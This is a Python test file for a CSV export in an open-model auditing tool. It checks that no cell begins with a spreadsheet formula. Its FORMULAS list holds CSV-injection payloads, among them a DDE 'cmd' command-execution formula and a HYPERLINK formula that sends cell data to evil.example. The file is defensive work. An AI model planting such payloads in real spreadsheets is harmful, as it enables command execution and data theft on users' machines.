"""summary.csv: a table that every reader of CSV reads alike, and in which no formula begins."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

from hypothesis import given
from hypothesis import strategies as st

from osaid_hub.audits.short import Result
from osaid_hub.known.definition import load
from osaid_hub.report.scan import csv as scan_csv
from tests.factory import SHA
from tests.report.hostile import HOSTILE, UNSAFE_TO_SHOW
from tests.results import AFTER, make_failed, make_result
from tests.table import each_row

FORMULA = tuple("=+-@＝＋－＠")
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "'=1",
    '"=1',
    '"" =1',
    'x","=1',
    "x,=1",
    "x;=1",
    "x; =1",
    'x";"=1',
    "x\t=1",
    "x|=1",
    "x\r\n=1",
    "＝1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
)


def table(*results: Result, endpoint: str | None = None) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(scan_csv.render(results, endpoint)), newline=""), strict=True))


def test_every_model_is_a_row() -> None:
    head, *rows = table(*AFTER, endpoint="https://hub.example/")
    assert [row[0] for row in rows] == [result.repo_id for result in AFTER]
    assert {len(row) for row in rows} == {len(head)}
    assert head[9:-4] == [requirement.id for requirement in load().requirements]
    first = dict(zip(head, rows[0], strict=True))
    assert {key: first[key] for key in (*head[:9], "data.scope", "code.evaluation", *head[-4:])} == {
        "id": "acme/better",
        "url": "https://hub.example/acme/better",
        "sha": SHA,
        "verdict": "consistent",
        "score": "100.0",
        "ceiling": "83.3",
        "data": "50.0",
        "code": "50.0",
        "parameters": "100.0",
        "data.scope": "partial",
        "code.evaluation": "",
        "reason": "",
        "fetched_at": "2026-11-22T12:00:00Z",
        "tool_version": "0.1.0",
        "definition_version": "1.0",
    }
    failed = dict(zip(head, rows[2], strict=True))
    assert (failed["id"], failed["verdict"], failed["score"]) == ("acme/lost", "", "")
    assert failed["reason"] == "The Hub asks for a token."


def test_lines_end_as_the_standard_says() -> None:
    text = "".join(scan_csv.render(AFTER))
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == len(AFTER) + 1
    assert text.endswith("\r\n")
    assert text.startswith("id,url,sha,verdict,score,ceiling,data,code,parameters,data.provenance,")


def test_without_an_address_of_the_hub_the_address_is_the_models_own() -> None:
    assert table(make_result(url=None))[1][1] == ""
    assert table(make_result(url="https://hub.example/acme/x"))[1][1] == "https://hub.example/acme/x"
    assert table(make_result(url="javascript:alert(1)"))[1][1] == ""


def test_results_are_not_held() -> None:
    taken = []

    def stream() -> Iterator[Result]:
        for n in range(5):
            taken.append(n)
            yield make_result(f"acme/{n}")

    pieces = scan_csv.render(stream())
    next(pieces)
    assert taken == []
    next(pieces)
    assert taken == [0]


def cells(text: str, delimiter: str) -> Iterator[str]:
    """The cells as a program sees them that splits at another character, or does not know quotes."""
    for line in text.splitlines():
        yield from (cell for row in csv.reader([line], delimiter=delimiter) for cell in row)
        yield from line.split(delimiter)


def begins_no_formula(result: Result) -> None:
    text = "".join(scan_csv.render([result], "https://hub.example"))
    assert UNSAFE_TO_SHOW.findall(text.replace("\r\n", "\n")) == []
    text.encode()
    for delimiter in ",;\t|":
        for cell in cells(text, delimiter):
            assert not cell.strip(' "').startswith(FORMULA), (delimiter, cell)


@each_row("text", [*FORMULAS, *HOSTILE.values()])
def test_no_formula_begins_anywhere(text: str) -> None:
    begins_no_formula(make_failed(text, text, tool_version=text, sha=text, fetched_at=text, definition_version=text))


@given(st.text("=+-@＝ \t\r\n\"',;|ax\u200b\x00", max_size=12))
def test_no_formula_begins_in_any_mixture(text: str) -> None:
    begins_no_formula(make_failed(text, text))


@each_row(
    "text", ["acme/open-7b", "a-b+c@d=e", "2026-11-22T12:00:00Z", "https://hub.example/a?b=c", "No; not yet.", "模型"]
)
def test_harmless_words_are_left_alone(text: str) -> None:
    assert scan_csv.cell(text) == text
